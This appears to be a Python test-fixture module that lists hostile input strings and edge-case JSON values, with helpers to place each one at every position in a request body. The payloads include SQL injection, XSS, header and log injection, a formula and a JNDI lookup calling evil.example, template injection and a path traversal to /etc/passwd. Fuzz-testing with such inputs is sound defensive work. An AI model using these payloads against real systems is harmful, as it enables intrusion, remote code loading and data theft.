"""What somebody writes into a field who means no good, and a body with it at one place after another."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any

TEXTS: dict[str, str] = {
    "sql": "'; DROP TABLE samples; --",
    "sql in quotes": '" OR "1"="1',
    "like": "%_\\%",
    "html": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "header": "x\r\nX-Injected: yes\r\n\r\n<html>",
    "log line": "x\nERROR forged line",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "nul": "a\x00b",
    "surrogate": "a\ud800b",
    "right to left": "\u202egpj.exe\u2066",
    "joiners": "a\u200b\u200d\ufeffb",
    "line separator": "a\u2028b\x85c",
    "escape": "\x1b[31mred\x1b[0m",
    "10 kB": "x" * 10_240,
    "many marks": "e" + "\u0301" * 300,
    "format": "%s%n{0.__class__}${jndi:ldap://evil.example/a}{{7*7}}",
    "path": "../../../../etc/passwd",
    "url": "javascript:alert(1)",
    "empty": "",
    "blank": " \t ",
    "pattern": "~(a*)*(a|a)*b",
    "bad pattern": "~([",
    "not a pattern": "!~",
    "number": "1e309",
    "digits": "9" * 400,
    "other digits": "\u0663\u00b2",
    "null": "null",
}
# As JSON writes them; what Python's encoder would never write among them.
VALUES: dict[str, Any] = {
    "null": None,
    "true": True,
    "zero": 0,
    "below zero": -1,
    "fraction": 0.5,
    "beyond 32 bits": 2**31,
    "beyond 63 bits": 2**63,
    "beyond 64 bits": -(2**70),
    "beyond doubles": 10**400,
    "largest": 1.7e308,
    "smallest": 5e-324,
    "not a number": float("nan"),
    "infinite": float("-inf"),
    "array": [],
    "object": {},
    "array of nothing": [None],
    "object of nothing": {"": None},
    "arrays": [[[[]]]],
    "many": ["x"] * 1000,
    "two kinds": ["a", 1, {}],
    "odd names": {"__proto__": {"a": 1}, "constructor": "x", "$gt": ""},
}
ALL = {**TEXTS, **VALUES}


def places(body: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The way to every value in a body, and to the body itself."""
    yield at
    if isinstance(body, dict | list):
        for key, each in body.items() if isinstance(body, dict) else enumerate(body):
            yield from places(each, (*at, key))


def changed(body: Any, at: tuple[Any, ...], value: Any) -> Any:
    """A copy of the body with another value at one place."""
    if not at:
        return value
    copied = copy.deepcopy(body)
    inner = copied
    for key in at[:-1]:
        inner = inner[key]
    inner[at[-1]] = value
    return copied


def renamed(body: Any, at: tuple[Any, ...], name: str) -> Any:
    """A copy of the body with another name of the field at one place."""
    copied = copy.deepcopy(body)
    inner = copied
    for key in at[:-1]:
        inner = inner[key]
    inner[name] = inner.pop(at[-1])
    return copied
